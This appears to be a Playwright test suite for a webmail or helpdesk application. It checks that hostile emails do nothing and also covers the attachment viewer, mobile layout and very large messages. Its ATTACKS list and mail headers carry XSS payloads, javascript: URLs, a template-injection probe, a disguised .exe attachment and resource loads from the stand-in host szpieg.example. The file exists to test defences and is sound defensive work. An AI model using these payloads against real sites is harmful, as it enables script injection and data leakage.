"""Attacks come as letters, and nothing of them happens in an agent's browser. Files are looked at above the page.

These are our own attacks; `bin/bench safety` tries a known collection.
"""

import re
from email.message import EmailMessage
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import expect

from bench.watched import Watch, watched
from okienko.files.tests.pictures import PDF, PROGRAM, exif, picture
from tests.journeys.conftest import SHOP, Product, sign_in

pytestmark = pytest.mark.journey

SENDER = "napastnik@zly.example"
ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<a href='javascript:alert(1)'>x</a><a href='java\tscript:alert(1)'>y</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe><iframe src='javascript:alert(1)'></iframe>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<form action='javascript:alert(1)'><input autofocus onfocus=alert(1)><button formaction='javascript:alert(1)'>x</button></form>",
    "<details open ontoggle=alert(1)><summary>x</summary></details><video autoplay onloadstart=alert(1) src=x></video>",
    "<meta http-equiv=refresh content='0;url=https://szpieg.example/1'><base href='https://szpieg.example/'><a href=x>y</a>",
    "<link rel=stylesheet href='https://szpieg.example/2.css'><style>@import 'https://szpieg.example/3.css';p{background:url(https://szpieg.example/4.gif)}</style><p>x</p>",
    "<p style='background:url(https://szpieg.example/5.gif);position:fixed;inset:0;z-index:9999'>x</p>",
    "<table background='https://szpieg.example/6.gif'><tr><td>x</table><img srcset='https://szpieg.example/7.gif 2x' src='https://szpieg.example/8.gif'>",
    "<img src='https://szpieg.example/?",
    "<object data='https://szpieg.example/9'></object><embed src='https://szpieg.example/10'><audio src='https://szpieg.example/11' autoplay></audio>",
]  # fmt: skip


def attack() -> EmailMessage:
    mail = EmailMessage()
    mail["From"] = f'"<img src=x onerror=alert(1)>" <{SENDER}>'
    mail["To"], mail["Message-ID"] = SHOP, "<atak@zly.example>"
    mail["Subject"] = "<script>alert(2)</script>&lt;b&gt;{{7*7}}"
    mail.set_content("Zob. https://bank.pl@zly.example/ <script>alert(3)</script> javascript:alert(4)")
    mail.add_alternative("<p>Dobry!</p>" + "\n<hr>\n".join(ATTACKS), subtype="html")
    mail.add_attachment(
        picture("PNG", 60, 40), maintype="image", subtype="png", filename="<img src=x onerror=alert(1)>.png"
    )
    mail.add_attachment(b"<script>alert(5)</script>", maintype="text", subtype="html", filename="strona.html")
    return mail


def opened(product: Product, page, mail: EmailMessage, subject: str):
    product.write(mail, sender=SENDER, to=SHOP)
    sign_in(page, "anna")
    page.get_by_role("link", name=subject).first.click()
    page.locator("ok-peek").first.wait_for()


def dangers(watch: Watch) -> dict[str, list[str]]:
    names = ("executed", "handlers", "javascript_urls", "foreign_requests", "held_back")
    return {name: found for name in names if (found := getattr(watch, name))}


def test_an_attack_in_every_place_does_nothing(product, window):
    page = window()
    watch = watched(page.context, urlsplit(product.url).netloc)
    opened(product, page, attack(), "<script>alert(2)</script>")
    expect(page.locator("#case-head")).to_contain_text("<script>alert(2)</script>&lt;b&gt;{{7*7}}")
    watch.look(page)
    page.locator("ok-mail summary").click()
    frame = page.frame_locator(".mail-frame")
    expect(frame.get_by_text("Dobry!")).to_be_visible()
    watch.look(page)
    page.locator('[name=wish][value="once"]').click()
    page.locator(".letter:not([hx-get]) .mail-frame").wait_for(state="attached", timeout=60_000)
    expect(frame.get_by_text("Dobry!")).to_be_visible()
    watch.look(page)
    page.locator("ok-peek a").first.click()
    expect(page.locator("dialog.lightbox .look__picture")).to_be_visible()
    watch.look(page)
    assert dangers(watch) == {}
    assert watch.frames >= 2  # it did look into the letter


def evidence() -> EmailMessage:
    mail = EmailMessage()
    mail["From"], mail["To"], mail["Subject"] = f"Zofia <{SENDER}>", SHOP, "Pęknięte ucho, zdjęcia"
    mail["Message-ID"] = "<zdjecia@zly.example>"
    mail.set_content("Dzień dobry, zdjęcia w załączeniu.")
    for name, data in (
        ("ucho.heic", picture("HEIF", 800, 600, exif=exif(place=True))),
        ("ucho.jpg", picture("JPEG", 4000, 3000)),
        ("paragon.pdf", PDF),
        ("lista.csv", "nr;imię\n1;Łucja\n".encode()),
        ("faktura.pdf.exe", PROGRAM),
    ):
        mail.add_attachment(data, maintype="application", subtype="octet-stream", filename=name)
    return mail


def test_files_are_looked_at_above_the_page(product, window):
    page = window()
    opened(product, page, evidence(), "Pęknięte ucho, zdjęcia")
    chips = page.locator("ok-peek a")
    expect(chips.first.locator("img")).to_have_js_property("naturalWidth", 320, timeout=30_000)
    chips.first.click()
    dialog = page.locator("dialog.lightbox")
    shown = dialog.locator(".look__picture")
    expect(shown).to_have_js_property("naturalWidth", 800)
    expect(dialog.locator("#look-name")).to_have_text("ucho.heic")
    expect(dialog.locator(".look__note")).to_be_visible()  # the original says where

    before = shown.bounding_box()["width"]
    dialog.locator("[data-zoom=in]").click()
    assert shown.bounding_box()["width"] > 1.4 * before
    dialog.locator("[data-zoom=out]").click()
    for name in ("ucho.jpg", "paragon.pdf"):
        page.keyboard.press("ArrowRight")
        expect(dialog.locator("#look-name")).to_have_text(name)
    dialog.locator("[data-step=after]").click()
    expect(dialog.locator(".look__text")).to_contain_text("Łucja")
    expect(dialog.locator("[data-step=after]")).to_have_count(0)
    page.keyboard.press("Escape")
    expect(dialog).not_to_be_visible()
    expect(chips.first).to_be_focused()


def test_what_may_do_harm_is_saved_after_a_word(product, window):
    page = window()
    opened(product, page, evidence(), "Pęknięte ucho, zdjęcia")
    with page.context.expect_page() as waiting:
        page.get_by_title("faktura.pdf.exe").click()
    warned = waiting.value
    expect(warned.locator(".look__verdict")).to_be_visible()
    with warned.expect_download() as saving:
        warned.locator(".look__warning button").click()
    assert saving.value.suggested_filename == "faktura.pdf.exe"
    with page.expect_download() as saving:
        page.locator(".attachments__all a").first.click()
    assert re.fullmatch(r"\d+-\d+\.zip", saving.value.suggested_filename)


def test_a_wide_letter_stays_in_its_frame_on_a_phone(product, window):
    mail = EmailMessage()
    mail["From"], mail["To"], mail["Subject"] = f"Zofia <{SENDER}>", SHOP, "Szeroka tabela"
    mail["Message-ID"] = "<tabela@zly.example>"
    mail.set_content("Tabela")
    cells = "".join(f"<td width=200>kolumna {number}</td>" for number in range(12))
    mail.add_alternative(
        f"<table width=2400 style='min-width:2400px'><tr>{cells}</tr></table>", subtype="html"
    )
    product.write(mail, sender=SENDER, to=SHOP)
    page = sign_in(window(width=390, height=844), "anna")
    page.get_by_role("link", name="Szeroka tabela").first.click()
    page.locator("ok-mail summary").click()
    frame = page.frame_locator(".mail-frame")
    expect(frame.get_by_text("kolumna 0", exact=True)).to_be_visible()
    assert page.evaluate("document.documentElement.scrollWidth") <= 390
    assert page.locator(".mail-frame").bounding_box()["width"] <= 390
    assert (
        frame.locator("body").evaluate("body => body.ownerDocument.documentElement.scrollWidth > innerWidth")
        is True
    )


ENORMOUS = 5_000_000  # characters in each of the two bodies


def enormous() -> EmailMessage:
    mail = EmailMessage()
    mail["From"], mail["To"], mail["Subject"] = "Hurt <hurt@poczta.example>", SHOP, "Cały cennik"
    mail["Message-ID"] = "<cennik@poczta.example>"
    line = "Kubek „Mgła” 0,3 l, biały: 49,00 zł za sztukę.\n"
    mail.set_content(
        "Dzień dobry, przesyłam cennik.\n" + line * (ENORMOUS // len(line)) + "To już koniec cennika."
    )
    row = "<tr><td>Kubek „Mgła”</td><td>49,00 zł</td></tr>"
    rows = row * (ENORMOUS // len(row))
    mail.add_alternative(f"<table>{rows}</table><p>Koniec tabeli</p>", subtype="html")
    return mail


def test_a_letter_of_five_megabytes_does_not_hold_up_the_desk(product, window):
    page = window()
    product.write(enormous(), sender="hurt@poczta.example", to=SHOP)
    sign_in(page, "anna")
    row = page.get_by_role("link", name="Cały cennik")
    row.wait_for(timeout=30_000)
    began = page.evaluate("performance.now()")
    row.click()
    page.locator("#messages").get_by_text("Dzień dobry, przesyłam cennik.").wait_for()
    assert page.evaluate("performance.now()") - began < 3000
    assert page.evaluate("document.documentElement.outerHTML.length") < 500_000
    page.get_by_label("Treść").press_sequentially("Dziękuję")
    expect(page.get_by_label("Treść")).to_have_value("Dziękuję")
    page.locator("#messages").get_by_text("cała treść", exact=True).click()
    with page.context.expect_page() as opening:
        page.locator("#messages .more-text__whole pre + p a").click(timeout=30_000)
    expect(opening.value.locator("pre")).to_contain_text("To już koniec cennika.", timeout=30_000)
    expect(page.get_by_label("Treść")).to_have_value("Dziękuję")
